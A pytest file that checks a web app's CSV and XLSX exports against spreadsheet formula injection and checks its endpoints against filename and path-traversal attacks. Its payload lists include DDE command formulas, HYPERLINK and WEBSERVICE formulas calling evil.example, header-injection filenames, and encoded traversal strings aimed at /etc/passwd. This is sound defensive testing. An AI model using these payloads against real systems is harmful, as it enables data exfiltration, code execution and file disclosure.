"""Names lead to no file of this machine, and what is downloaded runs nothing where it is opened."""

import csv
import io
import zipfile

import openpyxl
import pytest

from tests.api.conftest import Api
from tests.api.jobs import ended, post, submit
from tests.attacks.sockets import get, statuses
from tests.attacks.test_archives import archive
from tests.attacks.test_requests import LOGIN
from tests.browser.conftest import PASSWORD, ROOT, Site
from tests.unit.builders import OLLAMA
from tests.unit.pictures import saved, two_halves

# Each begins a formula in Excel, LibreOffice or Google's sheets, or hides that it does.
FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", "=IMPORTXML(\"http://evil.example\",\"//a\")", "=1+1\n=2",
    "-2+3+cmd|x",
    "=WEBSERVICE(\"http://evil.example\")", "+cmd|' /C calc'!A0", "@=1", "=", "+", "-", "@",
    "\t", '=DDE("cmd","/C calc","x")', "=@1", "-@1", "+-1-",
]  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r")


def harmless(cell: object) -> bool:
    """No spreadsheet takes the cell for a formula: it begins as none, or is a number."""
    text = "" if cell is None else str(cell)
    if not text.startswith(STARTS):
        return True
    try:
        return float(text) == float(text)
    except ValueError:
        return False


@pytest.fixture(scope="module")
def job(api: Api) -> str:
    """A job with formulas for headers, cells, labels and what the model says."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL)
    # Tabs in the first line would be taken for what divides its cells.
    names = [formula for formula in FORMULAS if formula.isprintable()]
    writer.writerow(["text", *names])
    writer.writerows([[formula, *FORMULAS[: len(names)]] for formula in FORMULAS])
    made = submit(api, out.getvalue().encode(), labels=["=1+1", "@SUM(A1)"], model=OLLAMA)
    ended(api, made)
    return made


def test_no_cell_of_a_csv_is_a_formula(api: Api, job: str) -> None:
    """Headers, cells and labels are texts to whatever opens the file."""
    answer = api.get(f"/jobs/{job}/results", params={"format": "csv"})
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))

    assert len(rows) > len(FORMULAS) // 2
    assert [cell for row in rows for cell in row if not harmless(cell)] == []
    assert any(cell == "'=1+1" for row in rows for cell in row)


def test_no_cell_of_a_workbook_is_a_formula(api: Api, job: str) -> None:
    """Nor does the workbook hold a formula, a link or anything outside of it."""
    data = api.get(f"/jobs/{job}/results", params={"format": "xlsx"}).content
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        names = parts.namelist()
        sheets = b"".join(parts.read(name) for name in names if "sheets/" in name)

    assert [cell for row in sheet.values for cell in row if not harmless(cell)] == []
    assert not [name for name in names if "external" in name or "vba" in name]
    assert b"<f>" not in sheets
    assert b"<f " not in sheets


def test_no_name_of_a_picture_is_a_formula(api: Api) -> None:
    """The names inside an archive are cells too."""
    picture = saved(two_halves(), "PNG")
    data = archive(*((f"{formula}{n}.png", picture) for n, formula in enumerate(["=", "@", "+x"])))
    made = submit(api, data, "a.zip", text_column=None, model=OLLAMA)
    ended(api, made)
    text = api.get(f"/jobs/{made}/results", params={"format": "csv"}).text

    assert [row for row in csv.reader(io.StringIO(text)) if not all(map(harmless, row))] == []


NAMES = [
    "../../etc/passwd", "/etc/passwd", "C:\\a.csv", 'a".csv', "a\r\nSet-Cookie: evil=1.csv",
    "a\0.csv", "=1+1.csv", "a" * 500, ".", "..", "\u202evsc.exe", "<script>.csv",
    "a;filename=b.csv",
]  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_the_name_of_an_upload_is_only_shown(api: Api, name: str) -> None:
    """It is no path and no header: the file of the results is called what we call it."""
    answer = post(api, b"text\nhello\n", {"text_column": "text", "labels": ["A", "B"]}, name)
    assert answer.status_code == 202, answer.text
    job = answer.json()["job_id"]
    results = api.get(f"/jobs/{job}/results")

    assert results.headers["content-disposition"] == 'attachment; filename="results.csv"'
    assert "set-cookie" not in results.headers
    assert len(api.get(f"/jobs/{job}").json()["name"]) <= 200


CLIMBS = [
    "../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/etc/passwd", "%2fetc%2fpasswd", "..%5c..%5capp.py", "..\\..\\app.py",
    "....//....//app.py", "..;/..;/app.py",
    "%252e%252e%252fapp.py", "..%c0%af..%c0%afapp.py", "%00/etc/passwd", "app.py%00.png",
    "a/../../app.py",
    "../app.py", "..%2fapp.py", "../../../app.py", "../data/password", "..%2f..%2fdata%2fpassword",
    "file:///etc/passwd", "~root/.bashrc", "*", "%", "%ff%fe", "' OR 1=1 --",
    "a" * 3_000, ".", "..", "%2e",
]  # fmt: skip
FOLDERS = [
    "/static/", "/app/static/", "/media/", "/component/", "/component/streamlit/", "/api/swagger/",
    "/_stcore/bidi-components/", "/api/jobs/", "/",
]  # fmt: skip
OURS = [b"root:x:0", (ROOT / "app.py").read_bytes()[:60], PASSWORD.encode()]


@pytest.mark.parametrize("folder", FOLDERS)
@pytest.mark.parametrize("climb", CLIMBS)
def test_no_path_leads_to_a_file_of_ours(site: Site, folder: str, climb: str) -> None:
    """With the login, and sent as it stands: a page, a refusal, but no file beside the assets."""
    answer = get(site, (folder + climb).replace(" ", "%20"), LOGIN)

    assert len(statuses(answer)) == 1
    assert statuses(answer)[0] < 500
    assert not [secret for secret in OURS if secret in answer]


@pytest.mark.parametrize("verb", ["", "/results", "/evaluation", "/manifest", "/pause", "/retry"])
@pytest.mark.parametrize("climb", CLIMBS)
def test_no_job_has_such_an_id(site: Site, climb: str, verb: str) -> None:
    """An id is looked up and never joined into a path: not found, or no such call."""
    path = f"/api/jobs/{climb.replace(' ', '%20')}{verb}"
    for method in ("GET", "POST", "DELETE"):
        answer = get(site, path, LOGIN, method=method)

        assert set(statuses(answer)) <= {303, 307, 400, 403, 404, 405, 421, 422} or (
            climb in (".", "..", "*", "%2e") and verb in ("", "/results")
        )
        assert not [secret for secret in OURS if secret in answer]
